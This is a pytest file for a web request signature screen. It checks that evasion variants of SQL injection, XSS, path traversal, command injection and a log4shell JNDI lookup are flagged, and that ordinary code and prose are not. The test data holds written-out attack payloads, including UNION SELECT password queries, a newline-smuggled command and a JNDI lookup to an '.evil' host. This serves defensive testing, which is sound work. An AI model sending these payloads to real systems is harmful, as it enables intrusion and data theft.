"""Issues 10.21 (evasions and false positives named in the issue) and 10.19 (a plain str where
a guard expects a collection)."""

from __future__ import annotations

import json

import pytest

from balancekit import InvalidOption, Request
from balancekit.guard import Chain, Signature, SignatureScreen, Verdict, normalise

SCREEN = SignatureScreen()
FORM = "application/x-www-form-urlencoded"

EVASIONS = [
    ("sqli", Request(query="id=1 /*!UNION*/ SELECT password FROM users")),
    ("sqli", Request(query="id=1 /*!50000UNION*/ /*!50000SELECT*/ 1")),
    (
        "sqli",
        Request(
            method="POST",
            headers={"Content-Type": "Application/X-WWW-Form-Urlencoded"},
            body=b"id=1+union+select+password+from+users",
        ),
    ),
    ("sqli", Request(query="id=1 union%23x%0aselect 1")),
    ("sqli", Request(query="id=1 union-- x%0aselect 1")),
    ("sqli", Request(query="id=1 union distinctrow select 1")),
    ("xss", Request(query="q=%u003cscript%u003ealert(1)")),
    ("lfi", Request(path="/static/..;/admin")),
    ("sqli", Request(query="user=admin' or true-- -")),
    ("sqli", Request(query="user=' or 2>1--")),
    ("sqli", Request(query="user='||1=1")),
    ("rce", Request(query="host=x%0aid")),
]


@pytest.mark.parametrize(
    ("family", "request_"), EVASIONS, ids=[str(i) for i in range(len(EVASIONS))]
)
def test_issue_evasions_are_caught_by_their_family(family: str, request_: Request) -> None:
    ids = SCREEN.scan(request_)
    assert any(rule.startswith(family + "-") for rule in ids), (ids, SCREEN.fields(request_))


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24">'
    '<path d="M12 2L2 7l10 5 10-5-10-5z" fill="none" stroke="currentColor"/></svg>'
)
BENIGN = [
    Request(path="/docs/.env-setup-guide"),
    Request(
        method="POST",
        headers={"Content-Type": "application/json"},
        body=json.dumps({"name": "logo", "icon": SVG}).encode(),
    ),
    Request(query="q=how+to+use+${env:HOME}+in+bash"),
    Request(query="q=how%20to%20use%20%24%7Benv%3AHOME%7D%20in%20bash"),
]


@pytest.mark.parametrize("request_", BENIGN, ids=[str(i) for i in range(len(BENIGN))])
def test_issue_false_positives_pass(request_: Request) -> None:
    assert SCREEN.scan(request_) == ()


CODE_AND_PROSE = [
    {"code": "if x == 1:\n    print(x)\nfor i in range(3):\n    pass"},
    {"code": "if (a == b) { window.scrollTo(0, 0); } for (const k in obj) { call(k); }"},
    {"css": "/* header */ body { color: red; } a:hover { color: blue }"},
    {"text": "Use the settings page, then select an option. Either/or works; update it later."},
    {"html": '<p>Hello <a href="https://example.com/docs">docs</a></p><img src="/a.png" alt="">'},
    {"question": "How do I select rows where a column is null?"},
]
QUERIES = ["if you want it", "for sale in (london)", "time flies", "find my phone", "cd player"]


def test_code_prose_and_queries_that_look_like_the_new_rules_pass() -> None:
    """The rules added for the CRS corpus (cmd.exe for/if, window[...], quote+on...=) must not
    flag ordinary code and prose."""
    for body in CODE_AND_PROSE:
        request = Request(
            method="POST",
            headers={"Content-Type": "application/json"},
            body=json.dumps(body).encode(),
        )
        assert SCREEN.scan(request) == (), body
    for query in QUERIES:
        assert SCREEN.scan(Request(query="q=" + query.replace(" ", "+"))) == (), query


def test_the_sensitive_file_and_svg_rules_still_fire_on_the_real_thing() -> None:
    assert "lfi-files" in SCREEN.scan(Request(path="/.env"))
    assert "lfi-files" in SCREEN.scan(Request(path="/.env.local"))
    assert "xss-event-handler" in SCREEN.scan(Request(query="q=<svg/onload=alert(1)>"))
    assert "log4shell-jndi" in SCREEN.scan(Request(query="q=${jndi:ldap://${env:HOME}.evil}"))


def test_comment_content_is_screened_too() -> None:
    """Removing /* */ must not hide markup: HTML does not know SQL comments."""
    assert "xss-script" in SCREEN.scan(Request(query="q=/*<script>*/alert(1)"))


@pytest.mark.parametrize(
    "build",
    [
        lambda: SignatureScreen(skip_headers="x-token"),
        lambda: SignatureScreen(skip_headers=b"x-token"),
        lambda: SignatureScreen(skip_headers=[1]),
        lambda: SignatureScreen(skip_headers=5),
        lambda: SignatureScreen(signatures="sqli"),
        lambda: Signature("a", "x", triggers="xy"),
        lambda: Signature("a", "x", triggers=("x",), fields="path"),
        lambda: Verdict.reject("no", status=403, rule_ids="ban"),
        lambda: Chain("guards"),
    ],
)
def test_a_plain_str_where_a_collection_is_expected_is_refused(build: object) -> None:
    with pytest.raises(InvalidOption, match=r"collection|header names|Signature"):
        build()  # type: ignore[operator]


def test_skip_headers_as_a_collection_skips_that_header_only() -> None:
    screen = SignatureScreen(skip_headers={"X-Token"})
    request = Request(headers={"X-Token": "<script>", "X": "<script>"})
    assert screen.scan(request) == ("xss-script",)
    assert screen.scan(Request(headers={"X-Token": "<script>"})) == ()
    assert SignatureScreen(skip_headers=["t"]).scan(Request(headers={"X-Token": "<script>"}))


def test_path_parameters_are_dropped_only_after_dot_segments() -> None:
    assert normalise("/static/..;x=1/admin/.;y/z", path=True) == "/static/../admin/z"
    assert "xss-script" in SCREEN.scan(Request(path="/search;jsessionid=<script>x</script>"))
